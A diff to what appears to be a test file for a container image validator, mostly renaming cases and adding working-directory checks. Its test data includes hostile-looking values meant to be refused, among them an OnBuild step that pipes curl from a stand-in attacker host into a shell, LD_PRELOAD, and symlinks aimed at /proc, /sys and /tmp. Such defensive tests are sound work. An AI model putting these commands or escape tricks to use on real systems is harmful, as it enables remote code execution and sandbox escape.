@@ -55,7 +55,7 @@ CONFIGS = (
     _dropped("the arena's own labels", Labels={"kaiten.match": "1", "kaiten.install": "forged"}),
     _dropped("steps for those who build on it", OnBuild=["RUN curl evil.example | sh"]),
     _dropped(
-        "a signal that can't be heard",
+        "a stop signal that is ignored by default",
         StopSignal="SIGWINCH",
         ExposedPorts={"22/tcp": {}},
         Shell=["/bin/evil"],
@@ -66,7 +66,7 @@ CONFIGS = (
         harmless=_no_variables_of_ours,
     ),
     in_config(
-        "an entry point that is text", Entrypoint="sh -c x", refused="Expected `array | null`, got `str`"
+        "an entry point that is a string", Entrypoint="sh -c x", refused="Expected `array | null`, got `str`"
     ),
     in_config("an entry point that is a number", Entrypoint=7, refused="Expected `array | null`, got `int`"),
     in_config("an entry point in an entry point", Entrypoint=[["sh"]], refused="Expected `str`, got `array`"),
@@ -89,37 +89,39 @@ CONFIGS = (
     in_config("a variable of a megabyte", Env=["A=" + "x" * 900_000], refused="limit 32768"),
     in_config("a variable without a name", Env=["=x"], refused="an invalid name"),
     in_config("a variable without a value", Env=["LD_PRELOAD"], refused="has no value"),
-    in_config("a process's folder to start in", WorkingDir="/proc/self/fd/8", refused="is a system folder"),
-    in_config("a device's folder to start in", WorkingDir="//dev/./shm/", refused="is a system folder"),
+    in_config("a process's working directory", WorkingDir="/proc/self/fd/8", refused="is a system folder"),
+    in_config("a device's working directory", WorkingDir="//dev/./shm/", refused="is a system folder"),
     in_config(
-        "a folder to start in by a detour", WorkingDir="/bot/../proc/self", refused="must be an absolute path"
+        "a working directory with a detour",
+        WorkingDir="/bot/../proc/self",
+        refused="must be an absolute path",
     ),
+    in_config("a relative working directory", WorkingDir="proc/self", refused="must be an absolute path"),
+    in_config("a file as the working directory", WorkingDir="/bot/bot.py", refused="not a folder"),
+    in_config("a working directory with a long name", WorkingDir="/" + "a" * 256, refused="too long"),
+    in_config("a working directory with a long path", WorkingDir="/" + "a/" * 2_000, refused="too long"),
     in_config(
-        "a folder to start in from nowhere", WorkingDir="proc/self", refused="must be an absolute path"
-    ),
-    in_config("a file to start in", WorkingDir="/bot/bot.py", refused="not a folder"),
-    in_config("a folder to start in with a long name", WorkingDir="/" + "a" * 256, refused="too long"),
-    in_config("a folder to start in with a long path", WorkingDir="/" + "a/" * 2_000, refused="too long"),
-    in_config(
-        "a folder to start in beside the socket",
+        "a working directory beside the socket",
         WorkingDir="/run/arena/x",
         refused="into /run/arena, .* mounts",
     ),
     in_config(
-        "a folder to start in beside the init",
+        "a working directory beside the init",
         WorkingDir="/run/arena-init/x",
         refused="into /run/arena-init, .* mounts",
     ),
     in_config(
-        "a folder to start in for accounts", WorkingDir="/etc/group/x", refused="not a folder|a system file"
+        "a working directory below the accounts",
+        WorkingDir="/etc/group/x",
+        refused="not a folder|a system file",
     ),
     in_config(
-        "a folder to start in that is never seen",
+        "a working directory that is never seen",
         WorkingDir="/tmp/x",  # noqa: S108 - in the image
         refused="into /tmp, .* the arena's mounts",
     ),
     Attack(
-        name="a folder to start in that is hidden behind a link",
+        name="a working directory hidden behind a link",
         build=oci_archive(
             Draft(layers=layered(tar(symlink(b"w", b"/tmp/x"))).layers, config={"WorkingDir": "/w"})
         ),
@@ -127,7 +129,7 @@ CONFIGS = (
         refused="leads into /tmp, which is reserved for the arena's mounts",
     ),
     Attack(
-        name="a folder to start in that is a link",
+        name="a working directory that is a link",
         build=oci_archive(
             Draft(layers=layered(tar(symlink(b"w", b"/proc/self/fd/8"))).layers, config={"WorkingDir": "/w"})
         ),
@@ -135,7 +137,7 @@ CONFIGS = (
         refused="leads to '/proc'",
     ),
     Attack(
-        name="a folder to start in through links in a row",
+        name="a working directory through a chain of links",
         build=oci_archive(
             Draft(
                 layers=layered(tar(symlink(b"a", b"bot/b"), symlink(b"bot/b", b"../../../sys"))).layers,
@@ -151,7 +153,7 @@ CONFIGS = (
         refused="leads to '/sys'",
     ),
     Attack(
-        name="a folder to start in that goes in circles",
+        name="a working directory that goes in circles",
         build=oci_archive(
             Draft(
                 layers=layered(tar(symlink(b"a", b"b"), symlink(b"b", b"a"))).layers,
